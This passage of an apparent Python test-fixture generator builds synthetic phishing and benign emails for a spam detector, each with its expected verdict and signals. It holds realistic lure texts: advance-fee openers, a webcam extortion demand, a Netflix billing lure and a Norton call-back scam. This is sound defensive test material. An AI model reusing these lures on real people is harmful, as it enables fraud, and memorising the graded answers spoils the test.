        "signal, SpamScope score 0.")


def signal_advance_fee_reply():
    date = "Mon, 15 Apr 2024 09:41:12 +0000"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "7A2D4B1027", VICTIM, date),
        ("mail-ej1-f52.google.com", "mail-ej1-f52.google.com",
         "209.85.218.52", "mx1.example.com (Postfix)", "ESMTPS",
         "4VJ1bq0Wd1z2x", VICTIM, date),
    ]) + [
        auth("spf=pass smtp.mailfrom=gmail.com;\n\tdkim=pass "
             "header.d=gmail.com;\n\tdmarc=pass header.from=gmail.com"),
        "Message-ID: <CAKx9Lw3p+Qm7Zr2vB8nT@mail.gmail.com>",
        "Date: " + date,
        "From: \"Mr. Daniel Okafor\" <d.okafor1958@gmail.com>",
        "To: undisclosed-recipients:;",
        "Subject: Good day",
    ]
    body = text_part(
        "Good day,\n\nI am a bank manager and I have a business proposal "
        "that will be mutually\nbeneficial to both of us. It is strictly "
        "confidential.\n\nKindly get back to me for the details.\n\n"
        "Regards,\nDaniel Okafor\n", cte="7bit")
    write_case("signal_advance_fee_reply", mail(h, body), {"phishing": {
        "verdict": "phishing",
        "signals": signals("scam", "free_mail_odd_name", "reply_bait",
                           "unverified_lure")}},
        "Advance-fee opener from a Gmail address: 'mutually beneficial', "
        "'strictly confidential', 'kindly', 'get back to me' (scam, 3 "
        "counted), 'business proposal' (lure); the display name opens with "
        "a title, no one's name on "
        "free mail (free_mail_odd_name); a short mail with no link and no "
        "attachment from a free mailbox (reply_bait); bait words from a "
        "sender nobody vouches for (unverified_lure). Gmail's own checks "
        "pass: no auth_fail.")


def signal_unaligned_gift_card():
    date = "Tue, 16 Apr 2024 06:12:40 +0000"
    h = inbound(("mta4.bulk-relay.example", "mta4.bulk-relay.example"),
                "198.51.100.77", date) + [
        auth("spf=pass (sender IP is 198.51.100.77)\n\t"
             "smtp.mailfrom=bounce.bulk-relay.example;\n\tdkim=pass "
             "(signature was verified) header.d=bulk-relay.example;\n\t"
             "dmarc=none header.from=giftcards.example.net"),
        "Message-ID: <20240416061240.4411@bulk-relay.example>",
        "Date: " + date,
        "From: \"Booking.com\" <rewards@giftcards.example.net>",
        "To: %s" % VICTIM,
        "Subject: Your gift card is waiting Kq7ZmR2xVb",
    ]
    html = ("<html><body><table width=\"600\"><tr><td>"
            "<p>Your gift card is waiting for you!</p>"
            "<p><a href=\"https://claim.giftcards.example.net/c/88213\">"
            "Claim your reward</a></p></td></tr></table></body></html>\n")
    root = multipart("alternative", [
        text_part("Your gift card is waiting for you!\n\nClaim your reward: "
                  "https://claim.giftcards.example.net/c/88213\n"),
        text_part(html, "html"),
    ], "=_b1f0c3a9d2e84b7c")
    write_case("signal_unaligned_gift_card", mail(h, root), {"phishing": {
        "verdict": "phishing",
        "signals": signals("sender_unaligned", "display_name_domain",
                           "brand_display_name", "random_token", "lure",
                           "unverified_lure")}},
        "Gift-card lure sent through a bulk relay: SPF and DKIM pass for "
        "bulk-relay.example, not for the From domain (example.net), and "
        "there is no DMARC pass (sender_unaligned); the display name shows "
        "Booking.com, another site (display_name_domain; a brand the sender "
        "is not: brand_display_name); the subject "
        "ends in a machine-made tag, 'Kq7ZmR2xVb' (random_token); 'gift "
        "card', 'claim your', 'reward' (lure) from that unvouched sender "
        "(unverified_lure).")


def signal_extortion():
    date = "Wed, 17 Apr 2024 02:33:05 +0000"
    h = inbound(("static-203-0-113-40.example.net", "unknown"),
                "203.0.113.40", date) + [
        auth("spf=softfail smtp.mailfrom=example.org;\n\tdkim=none;\n\t"
             "dmarc=fail header.from=example.org"),
        "Message-ID: <5f2e91c0a7b3@example.org>",
        "Date: " + date,
        "From: %s" % "Support <support@example.org>",
        "To: %s" % VICTIM,
        "Subject: Your account was hacked",
    ]
    body = text_part(
        "Hello,\n\nI got full access to your device through a trojan on an "
        "adult website you\nvisited, and your webcam recorded you. Pay me "
        "1000 USD in bitcoin to the\nbitcoin address below within 48 hours "
        "or the video goes to all your contacts.\n\nbc1qexampleexample\n",
        cte="7bit")
    write_case("signal_extortion", mail(h, body), {"phishing": {
        "verdict": "phishing",
        "signals": signals("scam", "urgency", "auth_fail")}},
        "Extortion mail: 'full access to your', 'your device', 'adult "
        "website', 'your webcam', 'recorded you', 'pay me', 'bitcoin "
        "address' (scam, 3 counted), 'within 48 hours' (urgency); the From "
        "domain fails DMARC at the receiver (auth_fail).")


def benign_friend_free_mail():
    date = "Thu, 18 Apr 2024 19:02:11 +0200"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "8C3E5F2138", VICTIM,
         "Thu, 18 Apr 2024 17:02:13 +0000"),
        ("mail-wm1-f44.google.com", "mail-wm1-f44.google.com",
         "209.85.128.44", "mx1.example.com (Postfix)", "ESMTPS",
         "4VKy2m1Qx3z1w", VICTIM, "Thu, 18 Apr 2024 17:02:13 +0000"),
    ]) + [
        auth("spf=pass smtp.mailfrom=gmail.com;\n\tdkim=pass "
             "header.d=gmail.com;\n\tdmarc=pass header.from=gmail.com"),
        "Message-ID: <CAM2pQv8x+Zt4Yw9kR1sL@mail.gmail.com>",
        "Date: " + date,
        "From: Anna Berg <anna.berg.home@gmail.com>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Dinner on Friday",
    ]
    body = text_part(
        "Hi Jane,\n\nare we still on for dinner on Friday? I can bring the "
        "dessert.\n\nAnna\n", cte="7bit")
    write_case("benign_friend_free_mail", mail(h, body), {"phishing": {
        "verdict": "clean",
        "signals": no_signals("unverified_lure", "free_mail_odd_name",
                              "scam", "sender_unaligned")}},
        "A friend writes from Gmail: a short mail with no link (reply_bait "
        "may note it, alone it weighs little) under a person's name, with "
        "no bait words and passing checks: clean.")


def signal_attachment_only():
    date = "Fri, 19 Apr 2024 08:14:27 +0000"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "9D4F6A3249", VICTIM, date),
        ("mail-pf1-f175.google.com", "mail-pf1-f175.google.com",
         "209.85.210.175", "mx1.example.com (Postfix)", "ESMTPS",
         "4VLg7t0Cc5z3y", VICTIM, date),
    ]) + [
        auth("spf=pass smtp.mailfrom=gmail.com;\n\tdkim=pass "
             "header.d=gmail.com;\n\tdmarc=pass header.from=gmail.com"),
        "Message-ID: <CAJ4kT9w+Hq2Lr7Xp0sNv@mail.gmail.com>",
        "Date: " + date,
        "From: Accounts Team <accounts.team.desk@gmail.com>",
        "To: %s" % VICTIM,
        "Subject: Document for you",
    ]
    doc = pdf(pdf_page("Statement April 2024"))
    root = multipart("mixed", [
        text_part("Please see the attached document.\n", cte="7bit"),
        attachment(doc, "application/pdf", "Doc_q7XkP2mZ.pdf"),
    ], "000000000000a1b2c3d4e5f60718")
    write_case("signal_attachment_only", mail(h, root), {"phishing": {
        "verdict": "suspicious",
        "signals": signals("attachment_only", "random_token")}},
        "A line of text and a PDF from a Gmail address: the mail says "
        "nothing and hands over a file, from a free mailbox nobody vouches "
        "for (attachment_only); the file's name carries a machine-made "
        "tag, 'q7XkP2mZ' (random_token). Suspicious, not a verdict of "
        "phishing on its own.")


def benign_colleague_attachment():
    date = "Fri, 19 Apr 2024 10:31:02 +0200"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "0E5A7B4350", VICTIM,
         "Fri, 19 Apr 2024 08:31:04 +0000"),
        ("mail.example.org", "mail.example.org", "198.51.100.14",
         "mx1.example.com (Postfix)", "ESMTPS", "4VLk3m2Rd7z1x", VICTIM,
         "Fri, 19 Apr 2024 08:31:04 +0000"),
    ]) + [
        auth("spf=pass smtp.mailfrom=example.org;\n\tdkim=pass "
             "header.d=example.org;\n\tdmarc=pass header.from=example.org"),
        "Message-ID: <8b1f2c3d-4e5f-4a6b-9c7d-0e1f2a3b4c5d@example.org>",
        "Date: " + date,
        "From: \"Jensen, Mark\" <mark.jensen@example.org>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Minutes of Thursday",
        "User-Agent: Mozilla Thunderbird",
    ]
    doc = pdf(pdf_page("Minutes 18 April 2024"))
    root = multipart("mixed", [
        text_part("Hi Jane,\n\nhere are the minutes.\n\nMark\n", cte="7bit"),
        attachment(doc, "application/pdf", "Minutes_2024-04-18.pdf"),
    ], "------------0A1B2C3D4E5F6A7B8C9D0E1F")
    write_case("benign_colleague_attachment", mail(h, root), {"phishing": {
        "verdict": "clean", "risk": 0, "signals": []}},
        "A colleague sends minutes as a PDF with a line of text from his "
        "own domain, which SPF, DKIM and DMARC vouch for: no "
        "attachment_only, no random_token ('Minutes_2024-04-18'), risk 0. "
        "The display name \"Jensen, Mark\" is quoted as mail programs "
        "write it: its comma does not split the field (no invalid_sender).")


def signal_throwaway_sender_offer():
    date = "Tue, 10 Dec 2024 23:41:17 +0000"
    h = inbound(("mta7.winterdealsnow.example", "mta7.winterdealsnow.example"),
                "198.51.100.77", date) + [
        auth("spf=pass smtp.mailfrom=deck.winterdealsnow.example;\n\tdkim="
             "pass header.d=deck.winterdealsnow.example;\n\tdmarc=pass "
             "header.from=deck.winterdealsnow.example"),
        "Message-ID: <b81f0c2e44a94d0b@deck.winterdealsnow.example>",
        "Date: " + date,
        "From: \"Heated Vest Outlet\" <qTzRmwkE@deck.winterdealsnow.example>",
        "To: %s" % VICTIM,
        "Subject: Stay warm all winter: 60% off the heated vest",
        "List-Unsubscribe: <https://go.clickpath.example/u/7Hq2xK>",
    ]
    link = "https://go.clickpath.example/c/7Hq2xK9wLm3vB"
    html = (
        "<html><body style=\"margin:0\">\n<center>\n<a href=\"" + link +
        "\"><img src=\"https://go.clickpath.example/i/vest-winter.jpg\" "
        "width=\"600\" alt=\"\"></a>\n<p style=\"font:14px Arial\">"
        "Limited time: the heated vest everyone is buying, 60% off. <a href="
        "\"" + link + "\">See the offer</a></p>\n<p style=\"font:10px "
        "Arial;color:#999\"><a href=\"https://go.clickpath.example/u/"
        "7Hq2xK\">Unsubscribe</a></p>\n</center>\n</body></html>\n")
    root = text_part(html, "html")
    write_case("signal_throwaway_sender_offer", mail(h, root), {"phishing": {
        "verdict": "phishing",
        "signals": signals("random_local_part", "throwaway_sender",
                           "thin_html_body", "thin_html_bait",
                           "links_elsewhere")}},
        "Product spam from a throwaway sending domain that authenticates "
        "itself (DMARC pass): the mailbox name mixes capitals at random "
        "(random_local_part, 'qTzRmwkE'), every link goes to a click "
        "tracker of another domain (links_elsewhere, and with the made-up "
        "sender throwaway_sender), the HTML is one image and a line "
        "(thin_html_body) and that line is bait ('limited time': "
        "thin_html_bait). It carries List-Unsubscribe, so no "
        "single_call_to_action.")


def benign_camel_case_sender():
    date = "Wed, 11 Dec 2024 15:02:40 +0000"
    h = inbound(("out-3.mail.gardenshop.example",
                 "out-3.mail.gardenshop.example"), "203.0.113.63", date,
                qid="4YBk3n0Tq2z9x") + [
        auth("spf=pass smtp.mailfrom=mail.gardenshop.example;\n\tdkim=pass "
             "header.d=gardenshop.example;\n\tdmarc=pass "
             "header.from=gardenshop.example"),
        "Message-ID: <20241211150240.91c2@gardenshop.example>",
        "Date: " + date,
        "From: =?UTF-8?Q?Garden_Shop,_M=C3=BCnchen?= "
        "<OrderUpdatesUSA@gardenshop.example>",
        "To: %s" % VICTIM,
        "Subject: Your order 10-48213 has shipped",
        "List-Unsubscribe: <https://www.gardenshop.example/account/email>",
    ]
    html = (
        "<html><body>\n<p><img src=\"https://www.gardenshop.example/img/"
        "logo.png\" alt=\"Garden Shop\"></p>\n<p>Good news: order "
        "10-48213 is on its way.</p>\n<p><a href=\"https://www."
        "gardenshop.example/orders/10-48213\">Track the delivery</a></p>\n"
        "</body></html>\n")
    root = text_part(html, "html")
    write_case("benign_camel_case_sender", mail(h, root), {"phishing": {
        "verdict": "clean",
        "signals": no_signals("random_local_part", "throwaway_sender",
                              "thin_html_bait", "links_elsewhere",
                              "invalid_sender")}},
        "A shop's shipping notice, a line of HTML from its own domain, "
        "sent from a mailbox named in CamelCase with a trailing acronym "
        "('OrderUpdatesUSA': words, not random capitals, so no "
        "random_local_part); the short HTML holds no bait, so no "
        "thin_html_bait; the link goes to the shop. The display name is an "
        "encoded word whose comma (left unencoded, as some encoders do) "
        "belongs to the word, so no invalid_sender.")


def signal_quoted_from_address():
    date = "Thu, 12 Dec 2024 08:14:52 +0100"
    h = inbound(("smtp.mailout-eu.example", "smtp.mailout-eu.example"),
                "198.51.100.143", date, qid="4YCq1r6Vb0z5m") + [
        auth("spf=pass smtp.mailfrom=mailout-eu.example;\n\tdkim=none;\n\t"
             "dmarc=none header.from=kasse-gesund.example"),
        "Message-ID: <20241212081452.5b2c7a@mailout-eu.example>",
        "Date: " + date,
        "From: \"Gesundheitskasse Service\" <\"service@kasse-gesund."
        "example\">",
        "To: %s" % VICTIM,
        "Subject: Ihre Beitragserstattung 2024",
    ]
    body = text_part(
        "Sehr geehrte Versicherte, sehr geehrter Versicherter,\n\nfür das "
        "Jahr 2024 steht Ihnen eine Beitragserstattung zu. Bitte\n"
        "bestätigen Sie Ihre Bankverbindung, damit wir den Betrag "
        "überweisen\nkönnen:\n\nhttps://erstattung-portal.example/de/"
        "antrag?id=88213\n\nMit freundlichen Grüßen\nIhr Service-Team\n",
        cte="8bit")
    write_case("signal_quoted_from_address", mail(h, body), {"phishing": {
        "signals": {"$contains": [{
            "name": "invalid_sender",
            "evidence": "From address service@kasse-gesund.example is "
                        "written in quotes inside its angle brackets"}]}}},
        "From writes the whole address in quotes inside its angle "
        "brackets (<\"service@kasse-gesund.example\">): a local part "
        "with no domain to the letter of RFC 5322, which no mail system "
        "writes, while clients show the address; the sender put the field "
        "together by hand (invalid_sender).")


def signal_split_from_field():
    date = "Fri, 13 Dec 2024 10:27:03 +0100"
    h = inbound(("mail.relay-offers.example", "mail.relay-offers.example"),
                "198.51.100.201", date, qid="4YDb8w2Kf5z1p") + [
        auth("spf=pass smtp.mailfrom=news.relay-offers.example;\n\tdkim=pass "
             "header.d=relay-offers.example;\n\tdmarc=pass "
             "header.from=news.relay-offers.example"),
        "Message-ID: <cc41d9e07a@news.relay-offers.example>",
        "Date: " + date,
        "From: Gemeentelijk Energieadvies , <info@news.relay-offers.example>",
        "To: %s" % VICTIM,
        "Subject: Uw energierekening omlaag in 2025",
    ]
    body = text_part(
        "Beste bewoner,\n\nVraag vandaag nog vrijblijvend een advies aan "
        "voor uw woning en\nontdek hoeveel u kunt besparen:\n\n"
        "https://energie-check.example/advies?r=5521\n\nMet vriendelijke "
        "groet,\nHet adviesteam\n", cte="7bit")
    write_case("signal_split_from_field", mail(h, body), {"phishing": {
        "signals": {"$contains": [{
            "name": "invalid_sender",
            "evidence": "From address info@news.relay-offers.example "
                        "follows a comma that cuts the field in two"}]}}},
        "From is 'Gemeentelijk Energieadvies , <info@...>': the unquoted "
        "comma makes two entries, a name without an address and an "
        "address, which mail clients show as one sender with that name; "
        "no mail program writes it, a hand-made sending script does "
        "(invalid_sender).")


def signal_brand_joined_display_name():
    date = "Fri, 13 Dec 2024 07:22:09 +0000"
    h = inbound(("smtp.streamhelp-billing.example",
                 "smtp.streamhelp-billing.example"), "198.51.100.181", date,
                qid="4YDm2s7Xc1z8n") + [
        auth("spf=pass smtp.mailfrom=streamhelp-billing.example;\n\tdkim="
             "pass header.d=streamhelp-billing.example;\n\tdmarc=pass "
             "header.from=streamhelp-billing.example"),
        "Message-ID: <20241213072209.3f1a9c@streamhelp-billing.example>",
        "Date: " + date,
        "From: \"NetflixSupportTeam\" <billing@streamhelp-billing.example>",
        "To: %s" % VICTIM,
        "Subject: Your membership is on hold",
    ]
    html = (
        "<html><body style=\"font-family:Arial\">\n<p>Hi,</p>\n<p>We were "
        "unable to process the payment for your next billing period, so "
        "your membership is on hold.</p>\n<p>To keep watching, please "
        "update your payment details.</p>\n<p><a href=\"https://account-"
        "restore.example.net/membership\">Update payment</a></p>\n<p>The "
        "Support Team</p>\n</body></html>\n")
    root = text_part(html, "html")
    write_case("signal_brand_joined_display_name", mail(h, root),
               {"phishing": {
                   "verdict": "phishing",
                   "brand": "Netflix",
                   "signals": signals("brand_display_name",
                                      "credential_request",
                                      "links_elsewhere")}},
        "A streaming-service billing lure whose display name runs the "
        "brand and 'Support Team' together ('NetflixSupportTeam'), so that "
        "the brand's word has no boundary after it; the display name is "
        "looked at again with its words set apart ('Netflix Support "
        "Team'), which names the brand from a domain that is not "
        "Netflix's (brand_display_name).")


def benign_brand_joined_display_name():
    date = "Fri, 13 Dec 2024 09:05:44 +0000"
    h = inbound(("mailer.netflix.com", "mailer.netflix.com"),
                "203.0.113.91", date, qid="4YDq0b2Kp8z3r") + [
        auth("spf=pass smtp.mailfrom=bounces.netflix.com;\n\tdkim=pass "
             "header.d=netflix.com;\n\tdmarc=pass header.from=netflix.com"),
        "Message-ID: <20241213090544.7c2e1d.info@netflix.com>",
        "Date: " + date,
        "From: \"NetflixHelp\" <info@mailer.netflix.com>",
        "To: %s" % VICTIM,
        "Subject: Your receipt for December",
        "List-Unsubscribe: <https://www.netflix.com/unsubscribe?t=8Kq2>",
    ]
    html = (
        "<html><body style=\"font-family:Arial\">\n<p>Hi Jane,</p>\n<p>"
        "Thanks for being a member. This is the receipt of your December "
        "payment: Standard plan, 13.49 EUR.</p>\n<p><a href=\"https://www."
        "netflix.com/BillingActivity\">See your billing details</a></p>\n"
        "<p>Questions? Visit the <a href=\"https://help.netflix.com\">Help "
        "Centre</a>.</p>\n</body></html>\n")
    root = text_part(html, "html")
    write_case("benign_brand_joined_display_name", mail(h, root),
               {"phishing": {
                   "verdict": "clean",
                   "signals": no_signals("brand_display_name",
                                         "links_elsewhere")}},
        "The brand's own receipt under a display name that runs its words "
        "together ('NetflixHelp'): set apart, the name is the brand's, and "
        "the sender's domain is the brand's, so no brand_display_name.")


def cpf_training_fund():
    date = "Mon, 16 Dec 2024 10:12:37 +0100"
    h = inbound(("mail.orbitmedia-partners.example",
                 "mail.orbitmedia-partners.example"), "198.51.100.212", date,
                qid="4YFb6k1Lr9z2w") + [
        auth("spf=pass smtp.mailfrom=orbitmedia-partners.example;\n\t"
             "dkim=none;\n\tdmarc=none header.from=orbitmedia-partners."
             "example"),
        "Message-ID: <5e0c1b7d93a24f1c8a6d@orbitmedia-partners.example>",
        "Date: " + date,
        "From: Conseiller CPF <dossier@orbitmedia-partners.example>",
        "To: %s" % VICTIM,
        "Subject: " + enc_word("Vos heures de formation vous attendent"),
    ]
    html = (
        "<html><body style=\"font-family:Arial\">\n<p>Bonjour,</p>\n<p>"
        "Salarié ou demandeur d’emploi, vos heures de formation peuvent "
        "financer une formation certifiante.</p>\n<p>Un conseiller vérifie "
        "votre éligibilité en quelques minutes.</p>\n<p><a href=\"https://"
        "simulation-formation.example.net/eligibilite\">Je fais ma "
        "simulation</a></p>\n</body></html>\n")
    root = text_part(html, "html")
    write_case("cpf_training_fund", mail(h, root), {"phishing": {
        "verdict": "phishing",
        "brand": "Mon Compte Formation",
        "signals": signals("brand_display_name", "links_elsewhere")}},
        "A French training-fund lure: a 'CPF adviser' (the state's "
        "training account, Mon Compte Formation, whose cold calling and "
        "mailing is forbidden) writes from an unrelated domain and sends "
        "the reader to an eligibility page elsewhere. 'conseiller cpf' is "
        "one of the brand's keyword lines (brand_display_name).")


def health_plan_limited_time():
    date = "Tue, 17 Dec 2024 14:48:02 -0300"
    h = inbound(("envio.cotacaofacil-planos.example",
                 "envio.cotacaofacil-planos.example"), "198.51.100.64", date,
                qid="4YGc3p9Ds4z6t") + [
        auth("spf=pass smtp.mailfrom=envio.cotacaofacil-planos.example;\n\t"
             "dkim=pass header.d=envio.cotacaofacil-planos.example;\n\t"
             "dmarc=pass header.from=envio.cotacaofacil-planos.example"),
        "Message-ID: <20241217174802.61b3@envio.cotacaofacil-planos."
        "example>",
        "Date: " + date,
        "From: " + enc_word("Planos de Saúde - Cotação") +
        " <cotar@envio.cotacaofacil-planos.example>",
        "To: %s" % VICTIM,
        "Subject: " + enc_word("Jane, a mensalidade do seu plano foi "
                               "reajustada?"),
    ]
    html = (
        "<html><body style=\"font-family:Arial\">\n<p>Olá Jane,</p>\n<p>"
        "Diante do maior reajuste dos planos de saúde dos últimos anos, "
        "temos uma condição especial para você: redução de até 40% no "
        "valor da sua mensalidade, por tempo limitado.</p>\n<p><a href=\""
        "https://cotacao-saude.example.net/proposta\">Receber minha "
        "cotação</a></p>\n</body></html>\n")
    root = text_part(html, "html")
    write_case("health_plan_limited_time", mail(h, root), {"phishing": {
        "signals": {"$contains": [
            {"name": "urgency",
             "evidence": "1 phrase, first: \"por tempo limitado\""},
            {"name": "lure",
             "evidence": "1 phrase, first: \"condição especial\""}]}}},
        "Portuguese health-plan bait: a 'special condition for you' "
        "(lure) offered 'for a limited time' (urgency), with one link to "
        "a quotation page on another domain.")


def signal_abused_links_only():
    date = "Wed, 18 Dec 2024 06:31:15 +0000"
    h = inbound(("mail.huisbesparing-nieuws.example",
                 "mail.huisbesparing-nieuws.example"), "198.51.100.37", date,
                qid="4YHd8r2Ft6z1q") + [
        auth("spf=pass smtp.mailfrom=huisbesparing-nieuws.example;\n\t"
             "dkim=pass header.d=huisbesparing-nieuws.example;\n\tdmarc="
             "pass header.from=huisbesparing-nieuws.example"),
        "Message-ID: <6c1e0f4a-2b7d-4e91-b3a8-0d5f7c2e9a14@huisbesparing-"
        "nieuws.example>",
        "Date: " + date,
        "From: Energie Advies <nieuwsbrief@huisbesparing-nieuws.example>",
        "To: %s" % VICTIM,
        "Subject: Uw energierekening kan omlaag",
    ]
    link = "http://r7k2m.besparen-nu.click/r.php?id=1o16a8c3_9n2595"
    html = (
        "<html><body style=\"font-family:Arial\">\n<table width=\"600\" "
        "align=\"center\"><tr><td>\n<h2>Betaalt u te veel voor stroom en "
        "gas?</h2>\n<p>De tarieven zijn gedaald. Vergelijk uw huidige "
        "contract met de vaste tarieven van dit moment en zie in twee "
        "minuten wat u per jaar kunt besparen op uw energierekening. Het "
        "vergelijken is vrijblijvend en u zit nergens aan vast.</p>\n<p>"
        "Duizenden huishoudens gingen u voor en betalen nu maandelijks "
        "minder, zonder gedoe met overstappen: wij regelen de opzegging "
        "bij uw oude leverancier.</p>\n<p><a href=\"" + link + "\">"
        "Bereken mijn besparing</a></p>\n<p style=\"font-size:11px;color:"
        "#888\">U ontvangt dit bericht omdat u zich heeft aangemeld voor "
        "onze tips.</p>\n</td></tr></table>\n</body></html>\n")
    root = text_part(html, "html")
    write_case("signal_abused_links_only", mail(h, root), {"phishing": {
        "signals": signals("abused_links_only", "suspicious_tld",
                           "links_elsewhere")}},
        "Energy-saving bait in Dutch from a domain that authenticates "
        "itself, whose one link goes to a click tracker on an abused "
        "top-level domain (.click) and none to the sender, without the "
        "List-Unsubscribe field real bulk mail carries (abused_links_only).")


def benign_post_one_abused_link():
    date = "Wed, 18 Dec 2024 19:03:48 +0100"
    h = inbound(("mail.rivierstad-fotoclub.example",
                 "mail.rivierstad-fotoclub.example"), "203.0.113.118", date,
                qid="4YHs0c5Wn3z7d") + [
        auth("spf=pass smtp.mailfrom=rivierstad-fotoclub.example;\n\tdkim="
             "pass header.d=rivierstad-fotoclub.example;\n\tdmarc=pass "
             "header.from=rivierstad-fotoclub.example"),
        "Message-ID: <20241218190348.4d2a@rivierstad-fotoclub.example>",
        "Date: " + date,
        "From: Marieke de Vries <marieke@rivierstad-fotoclub.example>",
        "To: %s" % VICTIM,
        "Subject: Links voor de clubavond van donderdag",
    ]
    text = (
        "Hoi Jane,\n\nZoals beloofd de links voor donderdag:\n\n"
        "- de expositie in het museum: https://www.stadsmuseum.example.org/"
        "expositie\n- het nieuwe fotoboek van Pieter: https://pieter-"
        "fotografie.example.net/boek\n- zijn portfolio, dat hij op een "
        "goedkoop domein zette: https://pieterfoto.online/\n\nTot "
        "donderdag,\nMarieke\n")
    root = text_part(text)
    write_case("benign_post_one_abused_link", mail(h, root), {"phishing": {
        "verdict": "clean",
        "signals": no_signals("abused_links_only")}},
        "A club member's mail with three links, none to her own domain, one "
        "of them on an abused top-level domain (.online, suspicious_tld): "
        "the other links go to ordinary sites, so no abused_links_only.")


def signal_display_name_trailing_tag():
    date = "Thu, 19 Dec 2024 05:52:40 +0000"
    h = inbound(("mail.voordeelpost-actueel.example",
                 "mail.voordeelpost-actueel.example"), "198.51.100.93", date,
                qid="4YJf1n7Gx2z5k") + [
        auth("spf=pass smtp.mailfrom=voordeelpost-actueel.example;\n\t"
             "dkim=pass header.d=voordeelpost-actueel.example;\n\tdmarc="
             "pass header.from=voordeelpost-actueel.example"),
        "Message-ID: <3a9d7e21-5c4b-4f0a-8e6d-1b2c3d4e5f60@voordeelpost-"
        "actueel.example>",
        "Date: " + date,
        "From: \"Slim Energie Team\"  .QWRTZ <info@voordeelpost-actueel."
        "example>",
        "To: %s" % VICTIM,
        "Subject: Bespaar op uw energierekening.QWRTZ",
        "List-Unsubscribe: <https://voordeelpost-actueel.example/af>",
    ]
    html = (
        "<html><body style=\"font-family:Arial\">\n<p>Goedemorgen,</p>\n"
        "<p>De energieprijzen zijn gedaald. Vergelijk uw contract en zie "
        "wat u kunt besparen.</p>\n<p><a href=\"https://voordeelpost-"
        "actueel.example/vergelijk\">Vergelijk nu</a></p>\n</body></html>"
        "\n")
    root = text_part(html, "html")
    write_case("signal_display_name_trailing_tag", mail(h, root),
               {"phishing": {"signals": {"$contains": [
                   {"name": "random_token",
                    "evidence": "display name token QWRTZ"}]}}},
        "A bulk mailing that hangs a tag on the end of the display name "
        "(and of the subject) to make each copy differ: '.QWRTZ' after "
        "the quoted name, set off by a space and a dot (random_token).")


# ---- main -------------------------------------------------------------------

def callback_renewal_invoice():
    date = "Thu, 12 Feb 2026 01:44:09 +0000"
    h = inbound(("mail.lakeside-rowing.example", "mail.lakeside-rowing.example"),
                "203.0.113.148", date) + [
        auth("spf=pass (sender IP is 203.0.113.148)\n\t"
             "smtp.mailfrom=lakeside-rowing.example;\n\tdkim=none (message "
             "not signed) header.d=none;\n\tdmarc=bestguesspass "
             "header.from=lakeside-rowing.example"),
        "Message-ID: <c3f1e0a7-52b8-4d6e-9a41-7e0d2b95c1aa@lakeside-rowing"
        ".example>",
        "Date: " + date,
        "From: \"Billing Department\" <accounts7@lakeside-rowing.example>",
        "To: %s" % VICTIM,
        "Subject: Membership statement INV-55018-QT",
    ]
    html = (
        "<html><head><link href=\"https://fonts.gstatic.example/css?family="
        "Roboto\" rel=\"stylesheet\"></head><body style=\"font-family:"
        "Roboto,Arial\">\n<table width=\"620\"><tr><td>\n"
        "<h2>Norton 360 Deluxe</h2>\n<p>Hello,</p>\n<p>Thank you for "
        "staying with us. Your yearly membership was renewed today and "
        "the amount below was debited from the payment method on file."
        "</p>\n<table>\n<tr><td>Statement</td><td>INV-55018-QT</td></tr>\n"
        "<tr><td>Devices</td><td>5</td></tr>\n<tr><td>Total charged</td>"
        "<td>$389.97</td></tr>\n</table>\n<p>If you did not ask for this "
        "renewal, our billing desk can stop it within 48 hours: "
        "<b>+1 (808) 555-0147</b>.</p>\n<p>Kind regards,<br>Customer "
        "Billing</p>\n</td></tr></table>\n</body></html>\n")
    root = text_part(html, "html")
    write_case("callback_renewal_invoice", mail(h, root), {"phishing": {
        "verdict": "phishing",
        "brand": "Norton",
        "signals": signals("callback_lure")}},
        "A call-back lure dressed as a renewal invoice: Norton is named, "
        "a charge of $389.97 and a phone number to stop it are given, the "
        "sender is an unrelated domain and no link goes to Norton (the "
        "only URL is a style sheet): callback_lure. With brand_body, "
        "links_elsewhere and the phrases it reaches a verdict (40 without "
        "it).")


def signal_diverted_reply():
    date = "Mon, 09 Mar 2026 07:18:52 +0000"
    h = inbound(("mx2.stthomas-college.example", "mx2.stthomas-college.example"),
                "192.0.2.211", date) + [
        auth("spf=pass (sender IP is 192.0.2.211)\n\t"
             "smtp.mailfrom=stthomas-college.example;\n\tdkim=pass "
             "(signature was verified) header.d=stthomas-college.example;\n\t"
             "dmarc=pass header.from=stthomas-college.example"),
        "Message-ID: <DB9P193MB1412E0C4A7D1F2B39A0E61C8D22A@DB9P193MB1412."
        "stthomas-college.example>",
        "Date: " + date,
        "From: Helen Marsh <h.marsh@stthomas-college.example>",
        "To: %s" % VICTIM,
        "Subject: Good day",
    ]
    root = text_part(
        "Good day,\n\nI have a proposal that will be of benefit to both of "
        "us. I am not able to say more on this mailbox.\n\nWrite to me at "
        "helen.marsh.office@outlook.com and I will explain everything.\n\n"
        "Regards,\nHelen\n", cte="7bit")
    write_case("signal_diverted_reply", mail(h, root), {"phishing": {
        "verdict": "phishing",
        "signals": signals("contact_free_mail", "reply_bait",
                           "diverted_reply")}},
        "The opening of an advance-fee scam from a real (compromised) "
        "college mailbox that passes DMARC: a few lines, no link, and the "
        "answer asked for at a free mailbox that is not the sender's "
        "(contact_free_mail, 'Write to me at ...@outlook.com'). "
        "That makes the sender one nobody vouches for (reply_bait), and a "
        "short no-link mail whose replies go to a free mailbox is "
        "diverted_reply; without it the mail stays suspicious.")


ALL = [bit_mail_body, bit_urls_body, bit_text_attachment, bit_urls_attachment,
       bit_filename, bit_filename_in_zip, bit_mail_from, bit_mail_subject,
       bit_mail_form, bit_mail_body_words_apart,
       bit_mail_subject_accented,
       m365_password_expiry, dhl_parcel_fee, bank_idn_homograph,
       html_attachment_page, zip_pdf_exe, encrypted_zip_password,
       signal_link_tricks, signal_prize_free_mail, signal_bec_headers,
       signal_obfuscated_sender, signal_macro_invoice, signal_pdf_javascript,
       signal_disk_image, signal_advance_fee_reply,
       signal_unaligned_gift_card, signal_extortion, signal_attachment_only,
